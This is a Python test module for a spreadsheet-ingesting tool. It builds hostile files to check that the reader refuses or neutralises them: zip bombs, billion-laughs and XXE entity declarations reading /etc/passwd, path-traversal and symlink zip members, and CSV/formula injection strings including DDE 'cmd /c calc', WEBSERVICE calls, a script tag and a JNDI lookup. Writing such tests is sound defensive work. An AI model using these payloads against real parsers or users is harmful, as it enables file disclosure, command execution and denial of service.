"""Every kind of hostile file, made here: each costs only itself, and nothing that was typed acts in what we write."""

import io
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from tenproj_xl.app.generate import generate
from tenproj_xl.app.merge import merge
from tenproj_xl.core.catalogue import Code
from tenproj_xl.core.limits import Limits
from tenproj_xl.core.sheets import TASKS
from tenproj_xl.core.texts import text_of
from tenproj_xl.model.statuses import Status
from tenproj_xl.reading.book import Book
from tenproj_xl.reading.containers import Contents
from tenproj_xl.reading.guard import Refusal
from tenproj_xl.reading.opening import open_file, read_book
from tenproj_xl.reading.sandbox import Reader
from tenproj_xl.reading.wire import Found
from tests.fuzzing.mutations import zipped
from tests.helpers import oldxls
from tests.helpers.filling import Filling, Office
from tests.reading.test_guard import edited, parts_of, with_cells, workbook
from tests.reading.test_sandbox import ods

SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
LAUGHS = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a '%s'><!ENTITY b '%s'>]>" % (b"ha" * 99, b"&a;" * 99)
READS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
CELL = '<table:table-cell office:value-type="float" office:value="1"/>'


def declared(head: bytes) -> bytes:
    """A sheet below a declaration of entities."""
    return edited(SHEET, lambda part: head + part[part.index(b"<worksheet") :])


def lying(field: int, number: bytes) -> bytes:
    """A workbook whose directory tells a wrong number of its sheet."""
    data = bytearray(workbook())
    at = data.rindex(SHEET.encode()) - 46 + field
    data[at : at + len(number)] = number
    return bytes(data)


def merges(count: int) -> bytes:
    ranges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n) for n in range(1, count + 1))
    return edited(
        SHEET,
        lambda part: part.replace(b"</sheetData>", b"</sheetData><mergeCells>" + ranges + b"</mergeCells>"),
    )


def mails(deep: int) -> bytes:
    """A mail in a mail in a mail."""
    message = EmailMessage()
    message["Subject"] = "第48期"
    message.add_attachment(workbook(), maintype="application", subtype="octet-stream", filename="03.xlsx")
    for _ in range(deep):
        outer = EmailMessage()
        outer["Subject"] = "转发"
        outer.add_attachment(message)
        message = outer
    return message.as_bytes()


def link(name: str) -> bytes:
    """A zip with a symbolic link in it."""
    info = zipfile.ZipInfo(name)
    info.external_attr = 0o120777 << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return file.getvalue()


LIMITED, TRUNCATED = Code.FILE_LIMITS, Code.FILE_TRUNCATED


def hostile() -> dict[str, tuple[bytes, Code]]:
    """Hostile files by what is wrong with them, and what is said of each."""
    return {
        "a zip bomb": (edited(SHEET, lambda part: part + b" " * (257 << 20)), LIMITED),
        "a bomb in the strings": (edited(STRINGS, lambda part: part + b" " * (257 << 20)), LIMITED),
        "a bomb in a zip of workbooks": (zipped([("03.xlsx", b"\0" * (129 << 20))]), LIMITED),
        "entities that multiply": (declared(LAUGHS), LIMITED),
        "entities from outside": (declared(READS), LIMITED),
        "a size that is not true": (lying(24, b"\x01\0\0\0"), TRUNCATED),
        "a packed size that is not true": (lying(20, b"\xff\xff\xff\x7f"), LIMITED),
        "a place that is not true": (lying(42, b"\xff\xff\xff\x7f"), TRUNCATED),
        "a count of strings that is not true": (
            edited(STRINGS, lambda part: re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', part)),
            LIMITED,
        ),
        "a cell at the end of a sheet": (
            with_cells(b'<row r="9"><c r="XFD1048576"><v>1</v></c></row>'),
            LIMITED,
        ),
        "a cell beyond the end": (
            with_cells(b'<row r="9"><c r="ZZZZZZZ99999999"><v>1</v></c></row>'),
            LIMITED,
        ),
        "a million merged ranges": (merges(1_000_000), LIMITED),
        "a value repeated over an .ods": (
            ods(
                '<table:table-row table:number-rows-repeated="1048576">'
                + CELL.replace("/>", ' table:number-columns-repeated="16384"/>')
                + "</table:table-row>"
            ),
            LIMITED,
        ),
        "a cell far away in an .xls": (
            oldxls.xls([[oldxls.number(0, 0, 1), oldxls.number(65535, 255, 1)]]),
            LIMITED,
        ),
        "a name that leads outside": (zipped([("../../03.xlsx", workbook())]), LIMITED),
        "a part that leads outside": (zipped([("xl/workbook.xml", b""), ("../x", b"")]), LIMITED),
        "a link to another file": (link("03.xlsx"), LIMITED),
        "mails in mails": (mails(7), LIMITED),
    }


def refused(found: Found) -> object:
    """The code of a refusal, or of that of the one file inside."""
    if isinstance(found, Contents):
        (found,) = (member.refusal for member in found.members)  # type: ignore[assignment]  # it is looked at
    return getattr(found, "code", found)


def test_every_hostile_file_costs_only_itself_and_the_others_go_on_at_full_speed() -> None:
    kinds = hostile()
    files = [data for bad, _ in kinds.values() for data in (bad, workbook())]
    with Reader() as reader:
        (expected,) = reader.open([workbook()])
        began = time.monotonic()
        found = list(reader.open(files))
        took = time.monotonic() - began
    codes = {name: refused(f) for name, f in zip(kinds, found[::2], strict=True)}
    assert codes == {name: code for name, (_, code) in kinds.items()}
    assert isinstance(expected, Book)
    assert found[1::2] == [expected] * len(kinds)
    assert took < 60


# --- what was typed


MARK = "毒"
FORBIDDEN = re.compile("[\0-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
TURNING = re.compile("[\u200e\u200f\u202a-\u202e\u2066-\u2069]")
TYPED = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://192.0.2.1","点")',
    "=cmd|'/c calc'!A0",
    '=DDE("cmd","/c calc","x")',
    '=WEBSERVICE("http://192.0.2.1")',
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "{=1+1}",
    "'=1+1",
    "=<f>1+1</f>",
    "http://192.0.2.1/x",
    "https://192.0.2.1/x",
    "ftp://192.0.2.1/x",
    "mailto:a@example.com",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "\\\\192.0.2.1\\share",
    "<r><t>x</t></r>",
    "<r><rPr><b/></rPr><t>x</t></r>",
    "<script>alert(1)</script>",
    "]]>",
    "&lt;&#x41;&amp;",
    "_x0007_",
    "_x000D_",
    "{期}{地区}",
    "%s%n{0}{x!r}",
    "\u202egnp.xlsx",
    "\u2028x",
    "\x7f\x85",
    "x" * 480,
    "${jndi:ldap://192.0.2.1}",
    "&Z&F&P",
)
"""What may act where it is not written as a text; each is typed with the mark behind it."""


def type_text(form: Filling, sheet: str, row: str, field: str, text: str) -> None:
    """Write a text that is none of openpyxl's formulas."""
    cell = form.tab(sheet)[form.at(sheet, row, field)]
    cell.value = f"{text}{MARK}"
    cell.data_type = "s"


def infect(form: Filling, first: int) -> Filling:
    """Hostile texts in the cells where people write, beginning with one of them."""
    places = [
        ("tasks", code, f)
        for f in ("progress", "next_steps", "remark", "person")
        for code in form.codes("tasks")
    ]
    places += [("indicators", code, f) for f in ("remark", "next_steps") for code in form.codes("indicators")]
    for (sheet, code, field), text in zip(places, (*TYPED[first:], *TYPED, *TYPED), strict=False):
        type_text(form, sheet, code, field, text)
    form.write("issues", "+1", category="用地", source="自查", status="整改中", raised_on=date(2026, 11, 23))
    form.write("issues", "+1", due_on=date(2026, 12, 31))
    for field, text in (
        ("description", "=1+1"),
        ("measures", "<r><t>x</t></r>"),
        ("unit", "@x"),
        ("request", "=2"),
    ):
        type_text(form, "issues", "+1", field, text)
    return form


def with_controls(office: Office, code: str) -> bytes:
    """The tasks of a form as an .xls, with characters in a text that no XML may have."""
    book = read_book(office.right(code).data)
    assert isinstance(book, Book)
    (tab,) = [tab for tab in book.sheets if tab.name == TASKS.name]
    bad = f"按计划\x01\x0b\x1f\ufffe\uffff\u202e推进{MARK}"
    cells = [(r, c, v) for r, line in enumerate(tab.rows) for c, v in enumerate(line) if v is not None]
    records = [oldxls.text(r, c, bad if v == "按计划推进" else text_of(v)) for r, c, v in cells]
    return oldxls.xls([records], [tab.name])


def test_nothing_that_was_typed_acts_in_what_we_write(week: Office) -> None:
    inbox = week.workspace.inbox
    for n, code in enumerate(("02", "03")):
        infect(week.right(code), n * 20).save(inbox / f"\u202e=1+1{MARK}{code}.xlsx")
    wrong = infect(week.right("04"), 5)
    for code in wrong.codes("indicators"):
        type_text(wrong, "indicators", code, "value", "=1+1")
    wrong.save(inbox / f"04\x07\u202e{MARK}.xlsx")
    (inbox / "08.xls").write_bytes(with_controls(week, "08"))
    (inbox / f"=1+1\x07\u202e{MARK}.pdf").write_bytes(b"%PDF-1.7\n")

    merged = merge(week.workspace, week.period)
    generate(week.workspace, "2026-W49")

    statuses = [f.status for f in merged.ingested.files]
    assert statuses.count(Status.REFUSED) == 1
    assert statuses.count(Status.TO_CORRECT) >= 1
    written = [p for p in week.workspace.outbox.rglob("*") if p.is_file()]
    assert {p.suffix for p in written} == {".xlsx", ".docx", ".txt", ".html"}
    assert [(p.name, fault) for p in written for fault in faults(p)] == []
    assert sum(text.count(MARK) for text in texts(merged.rollup)) > 50


def faults(path: Path) -> Iterator[str]:
    """Everything in a file that is more than text, or that no XML may have."""
    if FORBIDDEN.search(path.name) or TURNING.search(path.name):
        yield f"name {path.name!r}"
    if path.suffix == ".txt":
        text = path.read_text(encoding="utf-8-sig")
        yield from (f"character {c!r}" for c in (*FORBIDDEN.findall(text), *TURNING.findall(text)))
        return
    if path.suffix == ".html":
        yield from PageFaults(path.read_text("utf-8")).found
        return
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                yield from (f"{name}: {fault}" for fault in faults_of_part(archive.read(name)))


class PageFaults(HTMLParser):
    """What was typed and stands in a page as more than text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found = [f"character {c!r}" for c in (*FORBIDDEN.findall(html), *TURNING.findall(html))]
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on") or (
                name in ("href", "src", "action") and not str(value).startswith("#")
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
            if MARK in name or (name == "style" and MARK in str(value)):
                self.found.append(f"<{tag} {name}={value!r}>")
        if MARK in tag:
            self.found.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem and MARK in data:  # within a style or script
            self.found.append(f"<{self.cdata_elem}>{data!r}")


def faults_of_part(part: bytes) -> Iterator[str]:
    text = part.decode()
    yield from (f"character {c!r}" for c in FORBIDDEN.findall(text))
    for element in ET.fromstring(text).iter():  # of our own making
        tag = element.tag.rpartition("}")[2]
        inside = "".join(element.itertext())
        if tag == "Relationship" and element.get("TargetMode") == "External":
            yield f"link to {element.get('Target')}"
        if tag in ("si", "is") and MARK in inside and any(e.tag.endswith("}r") for e in element):
            yield f"markup {inside!r}"
        if tag not in ("si", "is", "t") and MARK in (element.text or "") and tag in LIVE:
            yield f"{tag} {element.text!r}"
        if tag in ("hyperlink", "fldSimple") and any(MARK in value for value in element.attrib.values()):
            yield f"hyperlink {element.attrib}"


LIVE = ("f", "formula", "formula1", "formula2", "definedName", "oddHeader", "oddFooter", "instrText")
"""Elements whose text is computed, or has codes of its own."""


def texts(path: Path) -> list[str]:
    """The texts of a workbook, each once."""
    with zipfile.ZipFile(path) as archive:
        root = ET.fromstring(archive.read("xl/sharedStrings.xml"))  # of our own making
    return ["".join(si.itertext()) for si in root]


@pytest.mark.parametrize(
    "part",
    [
        b'<x xmlns="u"><f>"\xe6\xaf\x92"</f></x>',
        b'<x xmlns="u"><si><r><t>\xe6\xaf\x92</t></r></si></x>',
        b'<x xmlns="u"><hyperlink location="\xe6\xaf\x92"/></x>',
        b'<x xmlns="u"><Relationship TargetMode="External" Target="http://192.0.2.1"/></x>',
    ],
)
def test_what_acts_would_be_seen(part: bytes) -> None:
    assert list(faults_of_part(part)) != []


# --- what is much, and harmless otherwise


def tagged(part: str, before: bytes, more: bytes) -> bytes:
    return edited(part, lambda xml: xml.replace(before, more + before, 1))


def a_row(row: int, *cells: bytes) -> bytes:
    return b'<row r="%d">%b</row>' % (row, b"".join(cells))


def twenty(row: int) -> list[bytes]:
    return [b'<c r="%c%d"><v>1</v></c>' % (65 + column, row) for column in range(20)]


def shown_by_many() -> bytes:
    """A text of ten thousand characters that eighty thousand cells show."""
    shown = b"".join(a_row(r, b'<c r="A%d" t="s"><v>0</v></c>' % r) for r in range(9, 80_000))
    sheet = tagged(SHEET, b"</sheetData>", shown)
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sheet)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name)
            if name == STRINGS:
                part = part.replace(b"<si>", b"<si><t>" + b"ab" * 5000 + b"</t></si><si>", 1)
            new.writestr(name, part)
    return file.getvalue()


MUCH: dict[str, tuple[Callable[[], bytes], str]] = {
    "cells": (
        lambda: tagged(SHEET, b"</sheetData>", b"".join(a_row(r, *twenty(r)) for r in range(9, 11_000))),
        "个填了内容的单元格",
    ),
    "a text in one cell": (
        lambda: tagged(STRINGS, b"</sst>", b"<si><t>" + b"a " * (20 << 20) + b"</t></si>"),
        "有一个单元格的文字超过",
    ),
    "a text that many cells show": (shown_by_many, "文件的文字共有"),
    "tags in the list of sheets": (
        lambda: tagged("xl/workbook.xml", b"<sheets>", b"<y>" * 1_100_000 + b"</y>" * 1_100_000),
        "个标记",
    ),
    "tags in a sheet that has to be parsed": (
        lambda: tagged(SHEET, b"</worksheet>", b"<!-- -->" + b"<x/>" * 2_000_000),
        "个标记",
    ),
    "rows of an .ods": (
        lambda: ods("<table:table-row><table:table-cell/></table:table-row>" * 700_000),
        "个标记",
    ),
    "parts of a mail": (
        lambda: (
            b"From: a@b.cn\nSubject: x\nContent-Type: multipart/mixed; boundary=x\n\n"
            + b"--x\n\nx\n" * 9_000
            + b"--x--\n"
        ),
        "邮件分成了成千上万段",
    ),
}


@pytest.mark.parametrize("kind", MUCH)
def test_too_much_of_anything_is_counted_and_named(kind: str) -> None:
    make, words = MUCH[kind]
    found, _ = open_file(make(), Limits(), ())
    assert isinstance(found, Refusal)
    assert (found.code, words in found.found) == (Code.FILE_LIMITS, True), found


def test_a_text_of_too_many_tags_is_looked_through_for_marks_all_the_same() -> None:
    paragraphs = "<w:p><w:r><w:t>运行正常</w:t></w:r></w:p>" * 400_000
    body = f"<w:document xmlns:w='w'><w:body>{paragraphs}<w:p><w:t>机密★1年</w:t></w:p></w:body></w:document>"
    found, _ = open_file(zipped([("word/document.xml", body.encode())]), Limits(), ())
    assert found == Refusal(Code.CLASSIFIED)


def broken_ole() -> bytes:
    data = bytearray(oldxls.xls([[oldxls.number(0, 0, 1)]]))
    data[756:760] = b"\xff\xff\xff\x7f"  # where its stream begins
    return bytes(data)


def without_list() -> bytes:
    parts = parts_of(workbook())
    del parts["xl/workbook.xml"]
    return zipped(list(parts.items()))


BROKEN: dict[str, tuple[Callable[[], bytes], str]] = {
    "a sheet that breaks off": (
        lambda: edited(SHEET, lambda part: b"<!-- -->" + part[: len(part) // 2]),
        "第1张工作表的内容不完整，中间缺了一截或有乱码",
    ),
    "a list of sheets that breaks off": (
        lambda: edited("xl/workbook.xml", lambda part: part[: len(part) // 2]),
        "文件内部的工作表目录已损坏",
    ),
    "a workbook without a list of sheets": (without_list, "文件内部缺少工作表目录"),
    "another encoding": (
        lambda: edited(SHEET, lambda part: part.decode().encode("utf-16")),
        "文件内部用了不常见的文字编码（不是UTF-8）",
    ),
    "an address that is none": (
        lambda: edited(SHEET, lambda part: part.replace(b'r="B3"', b'r="$B$3"')),
        "工作簿的内部结构不合规范，有的单元格读不出来",
    ),
    "an .ods that breaks off": (
        lambda: ods("<table:table-row><table:table-cell>"),
        "工作簿的内容不完整，中间缺了一截或有乱码",
    ),
    "a count that is none": (
        lambda: ods('<table:table-row table:number-rows-repeated="很多"/>'),
        "工作簿里有不合规范的数或行列数",
    ),
    "an .xls whose sectors lead nowhere": (broken_ole, "文件内部的记录缺了一截或已损坏"),
}


@pytest.mark.parametrize("kind", BROKEN)
def test_what_is_broken_is_told_in_plain_words(kind: str) -> None:
    make, reason = BROKEN[kind]
    with Reader() as reader:
        assert list(reader.open([make()])) == [Refusal(Code.FILE_UNREADABLE, reason)]
